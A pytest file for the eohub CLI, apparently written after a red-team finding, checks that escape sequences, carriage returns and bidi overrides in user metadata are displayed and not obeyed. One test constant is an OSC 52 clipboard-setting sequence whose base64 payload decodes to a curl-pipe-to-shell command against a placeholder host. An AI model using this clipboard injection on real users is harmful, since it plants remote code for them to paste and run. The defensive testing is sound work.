"""What other users and hubs wrote never drives the terminal (red-team finding 07): control characters
(ESC sequences that set the clipboard or rewrite the screen, carriage returns, bidi overrides) in
metadata, names and a hub's error messages are printed as visible escapes by every CLI command."""

from __future__ import annotations

import hashlib
from pathlib import Path

import pytest
from typer.testing import CliRunner

from eohub.cli.common import printable
from eohub.cli.main import app
from eohub.core.readme import ReadmeMetadata
from eohub.repository import Manifest, open_embedded
from eohub.repository.manifest import FileEntry

OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvcyB8IHNo\x07"  # sets the clipboard in many terminals


@pytest.mark.parametrize("text", [OSC52, "\r\x1b[2Kdone", "\u202eexe.txt", "\x9b31m", "a\x00b"])
def test_control_characters_are_shown_not_obeyed(text: str):
    shown = printable(text)
    assert not any(c in shown for c in "\x1b\r\x00\x07\u202e\x9b")
    assert printable("line one\n\tline two") == "line one\n\tline two"


def test_metadata_from_another_user_cannot_drive_the_terminal(tmp_path: Path):
    data = b"bob's bytes"
    path = tmp_path / "data.bin"
    path.write_bytes(data)
    entry = FileEntry("data.bin", len(data), hashlib.sha256(data).hexdigest())
    with open_embedded(user="bob") as bob:
        from eohub.repository.progress import Silent

        bob.upload_blob(entry, path, Silent())
        metadata = ReadmeMetadata(name="Bob-Model", authors=[f"Bob{OSC52}"], description=f"\rok{OSC52}")
        bob.commit_version("model", "Bob-Model", Manifest([entry], {}, metadata), None, allow_invalid=True)
    runner = CliRunner()
    for args in (["models", "info", "Bob-Model"], ["models", "list"], ["models", "versions", "Bob-Model"]):
        result = runner.invoke(app, args)
        assert result.exit_code == 0, result.output
        assert "\x1b" not in result.output and "\x07" not in result.output, args
    assert "\\x1b]52" in runner.invoke(app, ["models", "info", "Bob-Model"]).output
